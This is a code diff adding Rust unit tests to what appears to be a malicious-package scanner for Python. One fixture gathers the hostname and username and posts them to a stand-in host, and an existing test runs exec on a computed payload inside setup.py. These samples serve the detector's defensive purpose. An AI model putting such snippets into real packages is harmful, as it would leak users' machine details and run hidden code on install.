@@ -157,3 +157,25 @@ fn dynamic_exec_in_setup() {
     let code = "from setuptools import setup\npayload = compute()\nexec(payload)\nsetup(name='x')\n";
     assert!(setup(code).contains(&"py-install-dynamic-exec".to_string()), "{:?}", setup(code));
 }
+
+#[test]
+fn host_details_must_flow_into_the_request() {
+    let code = "import socket, getpass, requests\ndef go():\n    info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post('https://example.invalid', json=info)\n";
+    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
+    // A client that reads the platform for its own use and talks to its API is not exfiltrating.
+    let code = "import platform, requests\nUA = 'x'\ndef os_name():\n    return platform.platform()\ndef get(u):\n    return requests.get(u, headers={'User-Agent': UA})\n";
+    assert!(rules("pkg/client.py", code, Context::Module).is_empty(), "{:?}", rules("pkg/client.py", code, Context::Module));
+}
+
+#[test]
+fn only_direct_decoders_hide_endpoints() {
+    // Data decoded earlier and sent later is ordinary (keys, tokens); a decoder inside the call is not.
+    let code = "import base64, requests\nkey = base64.b64decode(CFG)\ndef send():\n    requests.post(URL, data=key)\n";
+    assert!(!rules("pkg/client.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
+}
+
+#[test]
+fn whitespace_alone_is_not_hidden_code() {
+    let art = format!("x = 1{}# a comment\nprint('{}|')\n", " ".repeat(200), " ".repeat(200));
+    assert!(!rules("pkg/art.py", &art, Context::Module).contains(&"py-hidden-code".to_string()));
+}
